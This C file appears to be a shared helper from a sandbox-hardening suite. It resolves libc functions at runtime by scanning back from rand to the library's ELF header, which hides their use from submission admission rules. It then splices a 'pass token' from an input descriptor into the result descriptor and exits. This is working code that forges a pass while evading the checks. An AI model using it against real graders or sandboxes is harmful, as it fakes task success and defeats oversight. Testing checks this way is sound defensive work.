/* What several attacks share (tools/hardening puts it before each attack
 * whose header says "Uses: libc_symbols"): find(name) walks from rand, an
 * import every submission may use, back to the C library's ELF header and
 * looks name up in its dynamic symbol table - a system call's wrapper that
 * no admission rule sees imported. */
#include <elf.h>
#include <stdint.h>
#include <stdlib.h>

static int same(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}

/* The C library's first byte: the page below rand that starts with \177ELF. */
static const unsigned char *library_base(void)
{
    uintptr_t page = (uintptr_t)(void *)rand & ~(uintptr_t)4095; /* (not qsort: the explorer wraps it in the program) */
    for (;; page -= 4096) {
        const unsigned char *p = (const unsigned char *)page;
        if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F')
            return p;
    }
}

static uintptr_t absolute(const unsigned char *base, uintptr_t value)
{
    return value < (uintptr_t)base ? (uintptr_t)base + value : value;
}

static void *find(const char *name)
{
    const unsigned char *base = library_base();
    const Elf64_Ehdr *elf = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + elf->e_phoff);
    const Elf64_Dyn *dyn = NULL;
    for (int i = 0; i < elf->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *symbols = NULL;
    const char *names = NULL;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        if (dyn->d_tag == DT_SYMTAB)
            symbols = (const Elf64_Sym *)absolute(base, dyn->d_un.d_ptr);
        if (dyn->d_tag == DT_STRTAB)
            names = (const char *)absolute(base, dyn->d_un.d_ptr);
    }
    for (const Elf64_Sym *s = symbols; s && (const char *)s < names; s++)
        if (s->st_value != 0 && same(names + s->st_name, name))
            return (void *)(base + s->st_value);
    return NULL;
}

/* Route 1's move: the pass token from the descriptor it came in on (3 to 5)
 * into the result's (4), by splice, then _exit - both found by find(). */
__attribute__((unused)) static void move_token_and_leave(void)
{
    long (*move)(int, void *, int, void *, size_t, unsigned) =
        (long (*)(int, void *, int, void *, size_t, unsigned))find("splice");
    void (*leave)(int) = (void (*)(int))find("_exit");
    if (move && leave) {
        for (int from = 3; from < 6; from++)
            move(from, NULL, 4, NULL, 256, 0);
        leave(0);
    }
}
